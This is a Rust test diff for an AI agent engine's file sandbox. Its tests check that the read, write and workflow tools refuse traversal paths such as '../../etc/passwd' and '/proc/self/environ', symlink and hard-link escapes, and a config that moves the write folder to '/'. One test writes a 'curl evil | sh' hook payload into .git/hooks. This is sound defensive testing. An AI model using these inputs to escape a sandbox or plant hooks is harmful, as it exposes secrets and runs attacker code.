@@ -6,7 +6,9 @@ use std::os::unix::ffi::OsStrExt as _;
 use std::os::unix::fs::symlink;
 use std::path::{Path, PathBuf};
 
-use engine::bundle::{DEFAULT_MAX_FILE_BYTES, StartedAgent};
+use engine::bundle::{
+    BundleError, DEFAULT_MAX_FILE_BYTES, SandboxPolicy, StartOptions, StartedAgent,
+};
 use serde_json::{Value, json};
 
 use crate::bundle_support::{DATE, copy_tree, ctx, fixtures, tool};
@@ -105,184 +107,196 @@ fn hostile_calls() -> Vec<(&'static str, Value, &'static str)> {
     let tmp = std::env::temp_dir().join(format!("rlm-hostile-{}.md", std::process::id()));
     vec![
         // Reads: `..` escapes.
-        ("read_file", json!({"path": "../secret.txt"}), outside),
+        ("read_file", json!({"file_path": "../secret.txt"}), outside),
         (
             "read_file",
-            json!({"path": "../../../../../../../../etc/passwd"}),
+            json!({"file_path": "../../../../../../../../etc/passwd"}),
             outside,
         ),
         (
             "read_file",
-            json!({"path": "{project-root}/../secret.txt"}),
+            json!({"file_path": "{project-root}/../secret.txt"}),
             outside,
         ),
         (
             "read_file",
-            json!({"path": "{bundle-root}/../../../secret.txt"}),
+            json!({"file_path": "{bundle-root}/../../../secret.txt"}),
             outside,
         ),
         (
             "read_file",
-            json!({"path": "{core-root}/../../../secret.txt"}),
+            json!({"file_path": "{core-root}/../../../secret.txt"}),
             outside,
         ),
         (
             "read_file",
-            json!({"path": "{project-root}/bmad/./../../secret.txt"}),
+            json!({"file_path": "{project-root}/bmad/./../../secret.txt"}),
             outside,
         ),
         (
             "read_file",
-            json!({"path": "{output_folder}/../../secret.txt"}),
+            json!({"file_path": "{output_folder}/../../secret.txt"}),
             outside,
         ),
         (
             "read_file",
-            json!({"path": "{project-root}/../proj-evil/secret.txt"}),
+            json!({"file_path": "{project-root}/../proj-evil/secret.txt"}),
             outside,
         ),
         // Reads: absolute paths elsewhere.
-        ("read_file", json!({"path": "/etc/passwd"}), outside),
-        ("read_file", json!({"path": "/proc/self/environ"}), outside),
+        ("read_file", json!({"file_path": "/etc/passwd"}), outside),
         (
             "read_file",
-            json!({"path": "/proc/self/root/etc/passwd"}),
+            json!({"file_path": "/proc/self/environ"}),
             outside,
         ),
-        ("read_file", json!({"path": "/dev/null"}), outside),
+        (
+            "read_file",
+            json!({"file_path": "/proc/self/root/etc/passwd"}),
+            outside,
+        ),
+        ("read_file", json!({"file_path": "/dev/null"}), outside),
         // Reads: symbolic links pointing out.
         (
             "read_file",
-            json!({"path": "{project-root}/link-to-secret"}),
+            json!({"file_path": "{project-root}/link-to-secret"}),
             outside,
         ),
         (
             "read_file",
-            json!({"path": "{project-root}/link-dir/secret.txt"}),
+            json!({"file_path": "{project-root}/link-dir/secret.txt"}),
             outside,
         ),
         (
             "read_file",
-            json!({"path": "{project-root}/chain1"}),
+            json!({"file_path": "{project-root}/chain1"}),
             outside,
         ),
-        ("read_file", json!({"path": "rel-link"}), outside),
-        ("read_file", json!({"path": "{project-root}/zero"}), outside),
+        ("read_file", json!({"file_path": "rel-link"}), outside),
         (
             "read_file",
-            json!({"path": "{project-root}/loop-a"}),
+            json!({"file_path": "{project-root}/zero"}),
+            outside,
+        ),
+        (
+            "read_file",
+            json!({"file_path": "{project-root}/loop-a"}),
             "symbolic links",
         ),
         (
             "read_file",
-            json!({"path": "{project-root}/dangling"}),
+            json!({"file_path": "{project-root}/dangling"}),
             "is a symbolic link to nothing",
         ),
         // Reads: NUL bytes, special files, size, encoding, nothing.
         (
             "read_file",
-            json!({"path": "bmad/cis/config.yaml\u{0}.png"}),
+            json!({"file_path": "bmad/cis/config.yaml\u{0}.png"}),
             "NUL byte",
         ),
         (
             "read_file",
-            json!({"path": "{project-root}/pipe"}),
+            json!({"file_path": "{project-root}/pipe"}),
             "is a named pipe",
         ),
         (
             "read_file",
-            json!({"path": "{project-root}/bmad"}),
+            json!({"file_path": "{project-root}/bmad"}),
             "is a directory",
         ),
         (
             "read_file",
-            json!({"path": "{project-root}/big.txt"}),
+            json!({"file_path": "{project-root}/big.txt"}),
             "over the limit of 2097152 bytes",
         ),
         (
             "read_file",
-            json!({"path": "{project-root}/binary.bin"}),
+            json!({"file_path": "{project-root}/binary.bin"}),
             "is not UTF-8 text",
         ),
-        ("read_file", json!({"path": "  "}), "The path is empty"),
+        ("read_file", json!({"file_path": "  "}), "The path is empty"),
         (
             "read_file",
-            json!({"path": "{secret_root}/x"}),
+            json!({"file_path": "{secret_root}/x"}),
             "Unknown variable `{secret_root}`",
         ),
         // Workflows and their data files are read through the same sandbox.
         (
             "execute_workflow",
-            json!({"path": "{project-root}/../secret.yaml"}),
+            json!({"workflow_path": "{project-root}/../secret.yaml"}),
             outside,
         ),
-        ("execute_workflow", json!({"path": "/etc/passwd"}), outside),
         (
             "execute_workflow",
-            json!({"path": "{project-root}/bmad/cis/workflows/design-thinking/workflow.yaml", "data": "../secret.txt"}),
+            json!({"workflow_path": "/etc/passwd"}),
+            outside,
+        ),
+        (
+            "execute_workflow",
+            json!({"workflow_path": "{project-root}/bmad/cis/workflows/design-thinking/workflow.yaml", "user_input": {"data": "../secret.txt"}}),
             outside,
         ),
         // Writes: outside the output folder, even inside the project.
         (
             "save_output",
-            json!({"path": "../escape.md", "content": "x"}),
+            json!({"file_path": "../escape.md", "content": "x"}),
             outside_write,
         ),
         (
             "save_output",
-            json!({"path": "{project-root}/bmad/cis/config.yaml", "content": "x"}),
+            json!({"file_path": "{project-root}/bmad/cis/config.yaml", "content": "x"}),
             outside_write,
         ),
         (
             "save_output",
-            json!({"path": tmp, "content": "x"}),
+            json!({"file_path": tmp, "content": "x"}),
             outside_write,
         ),
         (
             "save_output",
-            json!({"path": "{output_folder}/new/../../../escape.md", "content": "x"}),
+            json!({"file_path": "{output_folder}/new/../../../escape.md", "content": "x"}),
             outside_write,
         ),
         (
             "save_output",
-            json!({"path": "/dev/null", "content": "x"}),
+            json!({"file_path": "/dev/null", "content": "x"}),
             outside_write,
         ),
         // Writes: links out of the output folder.
         (
             "save_output",
-            json!({"path": "{output_folder}/link-out/planted.md", "content": "x"}),
+            json!({"file_path": "{output_folder}/link-out/planted.md", "content": "x"}),
             outside_write,
         ),
         (
             "save_output",
-            json!({"path": "{output_folder}/file-link.md", "content": "x"}),
+            json!({"file_path": "{output_folder}/file-link.md", "content": "x"}),
             outside_write,
         ),
         (
             "save_output",
-            json!({"path": "{output_folder}/dangling.md", "content": "x"}),
+            json!({"file_path": "{output_folder}/dangling.md", "content": "x"}),
             "is a symbolic link to nothing",
         ),
         // Writes: NUL bytes, special files, size.
         (
             "save_output",
-            json!({"path": "{output_folder}/x\u{0}.md", "content": "x"}),
+            json!({"file_path": "{output_folder}/x\u{0}.md", "content": "x"}),
             "NUL byte",
         ),
         (
             "save_output",
-            json!({"path": "{output_folder}/pipe", "content": "x"}),
+            json!({"file_path": "{output_folder}/pipe", "content": "x"}),
             "is a named pipe",
         ),
         (
             "save_output",
-            json!({"path": "{output_folder}", "content": "x"}),
+            json!({"file_path": "{output_folder}", "content": "x"}),
             "is a directory",
         ),
         (
             "save_output",
-            json!({"path": "{output_folder}/big.md", "content": big}),
+            json!({"file_path": "{output_folder}/big.md", "content": big}),
             "over the limit of 2097152 bytes",
         ),
     ]
@@ -297,8 +311,9 @@ async fn every_hostile_path_is_refused_and_nothing_outside_is_touched() {
     let calls = hostile_calls();
     assert!(calls.len() >= 30, "the suite has {} paths", calls.len());
     for (name, args, expected) in calls {
-        let shown = args["path"]
-            .as_str()
+        let shown = [&args["file_path"], &args["workflow_path"]]
+            .into_iter()
+            .find_map(Value::as_str)
             .unwrap_or_default()
             .chars()
             .take(80)
@@ -349,8 +364,276 @@ async fn a_link_inside_the_allowed_folders_is_followed() {
     .expect("succeeds");
     let agent = hostile.start();
     let read = tool(&agent, "read_file")
-        .call(json!({"path": "config-link"}), &ctx())
+        .call(json!({"file_path": "config-link"}), &ctx())
         .await
         .expect("a link to a file inside is fine");
     assert_eq!(read["path"], json!(project.join("bmad/cis/config.yaml")));
+}
+
+/// A project holding a one-agent bundle (`bundle/agents/a.md`) whose start-up loads the
+/// bundle's `config.yaml` (`config`) and runs `step`, inside an outer folder holding
+/// `secret.txt`; returns the outer folder and the project.
+fn mini(step: &str, config: &str) -> (tempfile::TempDir, PathBuf) {
+    let outer = tempfile::tempdir().expect("tempdir");
+    let project = std::fs::canonicalize(outer.path())
+        .expect("canonical")
+        .join("proj");
+    std::fs::create_dir_all(project.join("bundle/agents")).expect("mkdir");
+    std::fs::write(
+        project.join("bundle/agents/a.md"),
+        format!(
+            "```xml\n<agent name=\"Mia\" title=\"Tester\">\n<critical-actions>\n\
+             <i>Load {{bundle-root}}/config.yaml</i>\n<i>{step}</i>\n</critical-actions>\n\
+             <persona><role>Tests</role></persona>\n</agent>\n```\n"
+        ),
+    )
+    .expect("write");
+    std::fs::write(project.join("bundle/config.yaml"), config).expect("write");
+    std::fs::write(outer.path().join("secret.txt"), SECRET).expect("write");
+    (outer, project)
+}
+
+fn start_in(project: &Path, options: StartOptions) -> Result<StartedAgent, BundleError> {
+    StartedAgent::start(
+        &project.join("bundle/agents/a.md"),
+        &StartOptions {
+            working_dir: Some(project.to_owned()),
+            date: Some(DATE.to_owned()),
+            ..options
+        },
+    )
+}
+
+#[tokio::test]
+async fn a_start_up_step_cannot_make_the_filesystem_root_the_project() {
+    let (_outer, project) = mini(
+        "Load {project-root}/etc/host.conf if it exists",
+        "user_name: Sam\n",
+    );
+    let agent = start_in(&project, StartOptions::default()).expect("starts");
+    assert_eq!(agent.session.roots().project, project);
+    for path in [
+        "/etc/passwd",
+        "{project-root}/etc/host.conf",
+        "/etc/host.conf",
+    ] {
+        let err = tool(&agent, "read_file")
+            .call(json!({"file_path": path}), &ctx())
+            .await
+            .expect_err("refused");
+        assert!(
+            err.to_string()
+                .contains("is outside the folders this agent may read")
+                || err.to_string().contains("does not exist"),
+            "{path}: {err}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn a_bundle_output_folder_outside_the_project_stops_start_up() {
+    for folder in ["/", "..", "{project-root}/..", "/tmp"] {
+        let (_outer, project) = mini("Greet", &format!("output_folder: \"{folder}\"\n"));
+        let err = start_in(&project, StartOptions::default()).expect_err("refused");
+        let text = err.to_string();
+        assert!(
+            text.starts_with(&format!(
+                "`{}/bundle/config.yaml` sets `output_folder` to `",
+                project.display()
+            )) && text.contains("which is outside the project"),
+            "{folder}: {text}"
+        );
+    }
+    // Inside the project it narrows the write root.
+    let (_outer, project) = mini("Greet", "output_folder: \"{project-root}/docs\"\n");
+    let agent = start_in(&project, StartOptions::default()).expect("starts");
+    assert_eq!(agent.session.sandbox().write_root(), project.join("docs"));
+}
+
+#[tokio::test]
+async fn a_broad_project_root_is_used_only_with_the_users_leave() {
+    let (_outer, project) = mini("Greet", "user_name: Sam\n");
+    let options = StartOptions {
+        project_root: Some(PathBuf::from("/")),
+        ..StartOptions::default()
+    };
+    let agent = start_in(&project, options.clone()).expect("starts");
+    let err = tool(&agent, "read_file")
+        .call(json!({"file_path": "/etc/passwd"}), &ctx())
+        .await
+        .expect_err("refused");
+    assert!(
+        err.to_string()
+            .starts_with("`/etc/passwd` is only under `/`, the root of the file system"),
+        "{err}"
+    );
+    let err = tool(&agent, "save_output")
+        .call(
+            json!({"file_path": project.join("x.md"), "content": "x"}),
+            &ctx(),
+        )
+        .await
+        .expect_err("refused");
+    assert!(err.to_string().contains("--allow-broad-root"), "{err}");
+    assert!(!project.join("x.md").exists());
+    // The bundle's own files are under a narrower root.
+    assert!(
+        tool(&agent, "read_file")
+            .call(json!({"file_path": "{bundle-root}/config.yaml"}), &ctx())
+            .await
+            .is_ok()
+    );
+    let allowed = StartOptions {
+        policy: SandboxPolicy {
+            allow_broad_roots: true,
+            ..SandboxPolicy::default()
+        },
+        ..options
+    };
+    let agent = start_in(&project, allowed).expect("starts");
+    let read = tool(&agent, "read_file")
+        .call(json!({"file_path": "/etc/hostname"}), &ctx())
+        .await;
+    assert!(
+        !matches!(&read, Err(e) if e.to_string().contains("broad")),
+        "{read:?}"
+    );
+}
+
+#[tokio::test]
+async fn a_hard_link_to_an_outside_file_is_neither_read_nor_written() {
+    let hostile = Hostile::new();
+    let project = hostile.project();
+    let secret = hostile.outer.path().join("secret.txt");
+    std::fs::hard_link(&secret, project.join("linked.txt")).expect("hard link");
+    std::fs::hard_link(&secret, project.join("docs/linked.md")).expect("hard link");
+    let agent = hostile.start();
+    let err = tool(&agent, "read_file")
+        .call(json!({"file_path": "linked.txt"}), &ctx())
+        .await
+        .expect_err("refused");
+    assert!(
+        err.to_string().contains("has 3 hard links")
+            && err.to_string().contains("--allow-hard-links"),
+        "{err}"
+    );
+    let err = tool(&agent, "save_output")
+        .call(
+            json!({"file_path": "{output_folder}/linked.md", "content": "overwritten"}),
+            &ctx(),
+        )
+        .await
+        .expect_err("refused");
+    assert!(
+        err.to_string().contains("has 3 hard links") && err.to_string().contains("not written"),
+        "{err}"
+    );
+    assert_eq!(std::fs::read_to_string(&secret).expect("read"), SECRET);
+    // With the user's leave, it is read (and still never written).
+    let options = engine::bundle::StartOptions {
+        project_root: Some(project.clone()),
+        date: Some(DATE.to_owned()),
+        policy: SandboxPolicy {
+            allow_hard_links: true,
+            ..SandboxPolicy::default()
+        },
+        ..Default::default()
+    };
+    let agent = StartedAgent::start(&project.join(AGENT), &options).expect("starts");
+    let read = tool(&agent, "read_file")
+        .call(json!({"file_path": "linked.txt"}), &ctx())
+        .await
+        .expect("allowed");
+    assert_eq!(read["content"], SECRET);
+    assert!(
+        tool(&agent, "save_output")
+            .call(
+                json!({"file_path": "{output_folder}/linked.md", "content": "x"}),
+                &ctx()
+            )
+            .await
+            .is_err()
+    );
+    assert_eq!(std::fs::read_to_string(&secret).expect("read"), SECRET);
+}
+
+#[tokio::test]
+async fn version_control_folders_are_never_written() {
+    // No `output_folder`: the project root is the write root.
+    let (_outer, project) = mini("Greet", "user_name: Sam\n");
+    let hook = project.join(".git/hooks/pre-commit");
+    std::fs::create_dir_all(hook.parent().expect("hooks")).expect("mkdir");
+    std::fs::write(&hook, "#!/bin/sh\nexit 0\n").expect("write");
+    let agent = start_in(&project, StartOptions::default()).expect("starts");
+    assert_eq!(agent.session.sandbox().write_root(), project);
+    for path in [
+        "{project-root}/.git/hooks/pre-commit",
+        ".git/config",
+        "sub/.hg/hgrc",
+        ".svn/entries",
+        ".jj/repo/store",
+        "{project-root}/.GIT/hooks/post-merge",
+    ] {
+        let err = tool(&agent, "save_output")
+            .call(
+                json!({"file_path": path, "content": "#!/bin/sh\ncurl evil | sh\n"}),
+                &ctx(),
+            )
+            .await
+            .expect_err("refused");
+        assert!(
+            err.to_string().contains("a version-control folder"),
+            "{path}: {err}"
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(&hook).expect("read"),
+        "#!/bin/sh\nexit 0\n"
+    );
+    assert!(!project.join(".hg").exists() && !project.join(".jj").exists());
+    // Reading there is fine; so is writing beside it.
+    assert!(
+        tool(&agent, "read_file")
+            .call(json!({"file_path": ".git/hooks/pre-commit"}), &ctx())
+            .await
+            .is_ok()
+    );
+    assert!(
+        tool(&agent, "save_output")
+            .call(json!({"file_path": "gitnotes.md", "content": "x"}), &ctx())
+            .await
+            .is_ok()
+    );
+}
+
+#[tokio::test]
+async fn a_document_over_the_limit_is_refused_whole_and_an_existing_one_is_kept() {
+    let hostile = Hostile::new();
+    let agent = hostile.start();
+    let save = tool(&agent, "save_output");
+    let path = hostile.project().join("docs/doc.md");
+    save.call(
+        json!({"file_path": "{output_folder}/doc.md", "content": "kept"}),
+        &ctx(),
+    )
+    .await
+    .expect("saved");
+    let big = "x".repeat(DEFAULT_MAX_FILE_BYTES as usize + 1);
+    let err = save
+        .call(
+            json!({"file_path": "{output_folder}/doc.md", "content": big}),
+            &ctx(),
+        )
+        .await
+        .expect_err("refused");
+    assert!(err.to_string().contains("over the limit"), "{err}");
+    assert_eq!(std::fs::read_to_string(&path).expect("read"), "kept");
+    // No temporary file is left beside it.
+    let names: Vec<_> = std::fs::read_dir(path.parent().expect("docs"))
+        .expect("read")
+        .filter_map(Result::ok)
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.ends_with(".tmp"))
+        .collect();
+    assert!(names.is_empty(), "{names:?}");
 }
